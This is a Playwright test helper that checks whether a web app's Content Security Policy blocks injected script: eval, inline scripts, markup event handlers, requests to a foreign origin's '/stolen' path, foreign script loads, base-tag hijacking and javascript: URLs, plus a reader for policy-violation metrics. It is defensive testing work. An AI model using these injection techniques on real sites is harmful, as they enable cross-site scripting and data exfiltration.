import type { APIRequestContext, Page } from '@playwright/test'

/** What injected script might do; each marks the page with `window.harm` on success. */
export type Harm = 'eval' | 'inline script' | 'handler in markup' | 'foreign request' | 'foreign script' | 'base' | 'javascript address'

/** Tries it as a script of the page, outside the debugger's call, which bypasses the policy, until it is refused or has left its mark. */
export async function attempt(page: Page, harm: Harm, elsewhere: string): Promise<void> {
  return page.evaluate(
    ([what, origin]) =>
      new Promise<void>((done) => {
        let mark: unknown
        const set = (left: unknown) => {
          mark = left
          done()
        }
        Object.defineProperty(window, 'harm', { get: () => mark, set })
        document.addEventListener('securitypolicyviolation', ({ disposition }) => disposition === 'enforce' && done())
        const script = document.createElement('script')
        const tries: Record<string, () => unknown> = {
          // oxlint-disable-next-line no-eval -- must not work
          eval: () => window.eval('window.harm = "eval"'),
          'inline script': () => {
            script.append('window.harm = "inline script"')
            document.body.append(script)
          },
          'handler in markup': () => (document.body.innerHTML = '<img src="/none" onerror="window.harm = \'handler\'">'),
          'foreign request': () => fetch(`${origin}/stolen`).then(() => Object.assign(window, { harm: 'foreign request' })),
          'foreign script': () => {
            script.src = `${origin}/harm.js`
            document.body.append(script)
          },
          base: () => {
            const base = document.createElement('base')
            base.href = `${origin}/`
            document.head.append(base)
            if (document.baseURI.startsWith(origin)) Object.assign(window, { harm: 'base' })
          },
          'javascript address': () => window.location.assign('javascript:void(window.harm = "address")'),
        }
        // What is refused may throw as well.
        setTimeout(() => void (async () => tries[what]?.())().catch(() => undefined))
      }),
    [harm, elsewhere] as const,
  )
}

/** The mark of a successful attempt, or undefined. */
export function harmDone(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as { harm?: unknown }).harm)
}

/** The number of reports per rule counted by the server. */
export async function reportsByRule(request: APIRequestContext): Promise<Record<string, number>> {
  const text = await (await request.get(`http://127.0.0.1:${process.env['METRICS_PORT']}/api/metrics`)).text()
  const lines = [...text.matchAll(/^crewcall_policy_reports_total\{directive="([\w-]+)"\} (\d+)$/gm)]
  return Object.fromEntries(lines.map(([, rule = '', count]) => [rule, Number(count)]))
}
